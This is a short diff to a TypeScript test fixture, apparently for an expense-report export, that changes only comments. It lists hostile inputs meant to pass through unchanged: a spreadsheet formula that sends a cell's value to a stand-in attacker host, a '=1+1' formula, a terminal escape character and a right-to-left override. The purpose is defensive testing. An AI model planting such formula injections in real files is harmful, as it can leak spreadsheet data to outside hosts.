@@ -8,8 +8,8 @@ const ESCAPE = String.fromCharCode(27)
 const RIGHT_TO_LEFT = '\u202e'
 
 /**
- * Text that attacks spreadsheets, browsers, terminals and careless writers; it must come out as it
- * went in.
+ * Text that attacks spreadsheets, browsers, terminals and careless writers; it must come out
+ * unchanged.
  */
 const HOSTILE_TEXT: readonly Hostile[] = [
   { trip_name: '=HYPERLINK("https://evil.example/?x="&A1,"Open receipt")', cost_center: '=1+1' },
@@ -48,7 +48,7 @@ export const HOSTILE_LINES: readonly SpecialLine[] = HOSTILE_TEXT.map((text, ind
       taxPercentage: '0',
     })
     const change: Parameters<typeof withMetadata>[1] = {}
-    // A trip of its own, so that a hostile name does not rename the trip of harmless lines.
+    // a new trip, to leave the trip name of harmless lines alone
     if (text.trip_name !== undefined) {
       change.trip_id = String(7_700_000 + index)
       change.trip_name = text.trip_name
